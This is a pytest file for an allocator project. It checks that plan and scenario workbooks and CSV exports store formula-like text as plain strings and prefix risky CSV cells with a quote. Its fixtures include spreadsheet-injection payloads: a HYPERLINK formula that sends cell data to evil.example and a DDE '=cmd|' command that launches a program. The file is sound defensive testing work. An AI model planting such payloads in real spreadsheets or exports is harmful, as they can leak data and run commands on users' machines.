"""Text that a spreadsheet would run (a scenario name of ``=HYPERLINK(...)``, a currency of
``=1+1``, a segment unit of ``=cmd|x`` or ``@SUM(1)``) is written as text everywhere: the
plan workbook and the scenario workbook hold strings, never formulas; CSV cells carry
OWASP's leading single quote, the same in ``allocator solve -o plan/`` files and in the
API's CSV views; numbers stay numbers (a negative margin is not quoted)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from allocator import Scenario, solve
from allocator.cells import FORMULA_START, csv_cell
from allocator.cli import main
from allocator.plan.workbook import write_plan_workbook
from allocator.scenario.workbook import read_workbook, write_workbook
from tests.conftest import DATA

NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
UNITS = {"chat": "=cmd|' /C calc'!A0", "cloud": "@SUM(1+1)"}


def hostile() -> dict[str, Any]:
    """tiny.json with formula-like labels, and chat bound by a hard contract at a price
    below its cost: serving its 20,000 units of P1 earns 20,000 x 0.001 = 20 and costs at
    least 20,000 / 30 GPU-hours x 2.0 = 1,333 (B200, the cheapest per unit; H100 costs
    1.0 / 10 = 0.1 a unit), so its gross margin in P1 is negative."""
    d = json.loads((DATA / "tiny.json").read_text())
    d["name"], d["currency"] = NAME, "=1+1"
    for s in d["segments"]:
        s["unit"] = UNITS[s["id"]]
    chat = d["segments"][0]
    chat.update(revenue_per_unit=0.001, ltv_per_unit=0.0, contract_min=[20000, 0])
    chat["contract_hard"] = True
    return d


def test_csv_cell_quotes_formula_text_and_keeps_numbers() -> None:
    for start in FORMULA_START:
        assert csv_cell(start + "x") == "'" + start + "x"
    assert csv_cell("a=b") == "a=b" and csv_cell("") == ""
    assert csv_cell(-980.0) == "-980" and csv_cell(-1) == -1 and csv_cell(None) == ""


def no_formula_cells(raw: bytes) -> dict[str, list[tuple[Any, ...]]]:
    """Every sheet's values; fails on any formula cell (openpyxl reads them as type "f")."""
    wb = load_workbook(io.BytesIO(raw))  # not read-only: data_type per cell
    out = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
        out[ws.title] = [tuple(r) for r in ws.iter_rows(values_only=True)]
    return out


def test_the_plan_workbook_holds_text_not_formulas() -> None:
    plan = solve(Scenario.from_dict(hostile()))
    sheets = no_formula_cells(write_plan_workbook(plan))
    summary = {r[0]: r[1] for r in sheets["Summary"]}
    assert summary["scenario"] == NAME  # the exact text, shown as text
    assert any("=1+1" in str(h) for h in sheets["Allocations"][0] + sheets["Segments"][0])
    head = sheets["Segments"][0]
    rows = [dict(zip(head, r, strict=True)) for r in sheets["Segments"][1:]]
    assert {r["unit"] for r in rows} == set(UNITS.values())
    margins = [v for r in rows for k, v in r.items() if str(k).startswith("gross margin")]
    assert min(margins) < 0 and all(isinstance(v, int | float) for v in margins)


def test_the_scenario_workbook_holds_text_and_reads_back(tmp_path: Path) -> None:
    sc = Scenario.from_dict(hostile())
    write_workbook(sc, tmp_path / "s.xlsx")
    no_formula_cells((tmp_path / "s.xlsx").read_bytes())
    assert Scenario.from_dict(read_workbook(tmp_path / "s.xlsx")).to_dict() == sc.to_dict()


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def check_csv(rows: list[dict[str, str]]) -> None:
    """Units quoted; every other cell either safe text or a plain number."""
    assert {r["unit"] for r in rows} == {"'" + u for u in UNITS.values()}
    negative = 0
    for r in rows:
        for k, v in r.items():
            if k == "unit":
                continue
            try:
                negative += float(v) < 0
            except ValueError:
                assert not v.startswith(FORMULA_START), (k, v)
    assert negative, "the hard contract below cost gives a negative margin"


def test_cli_csv_files_and_api_csv_views_quote_the_same_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "s.json").write_text(json.dumps(hostile()))
    assert main(["solve", str(tmp_path / "s.json"), "-o", str(tmp_path / "plan")]) == 0
    capsys.readouterr()
    cli = csv_rows((tmp_path / "plan" / "segments.csv").read_text())
    check_csv(cli)
    assert no_formula_cells(_solve_xlsx(tmp_path))

    from fastapi.testclient import TestClient

    from api.main import create_app
    from tests.api.conftest import make_settings, wait_done

    with TestClient(create_app(make_settings(tmp_path, load_examples=False))) as client:
        assert client.put("/v1/scenarios/evil", json=hostile()).status_code == 201
        loc = client.post("/v1/scenarios/evil/plans").headers["location"]
        assert wait_done(client, loc)["status"] == "done"
        api = csv_rows(client.get(f"{loc}/segments?format=csv").text)
        xlsx = client.get(f"{loc}/plan?format=xlsx").content
    check_csv(api)
    # the same cells, neutralised the same way, in both
    assert [(r["segment"], r["unit"], r["gross_margin"]) for r in api] == [
        (r["segment"], r["unit"], r["gross_margin"]) for r in cli
    ]
    assert no_formula_cells(xlsx)["Summary"][1][1] == NAME


def _solve_xlsx(tmp_path: Path) -> bytes:
    out = tmp_path / "plan.xlsx"
    assert main(["solve", str(tmp_path / "s.json"), "-o", str(out)]) == 0
    return out.read_bytes()
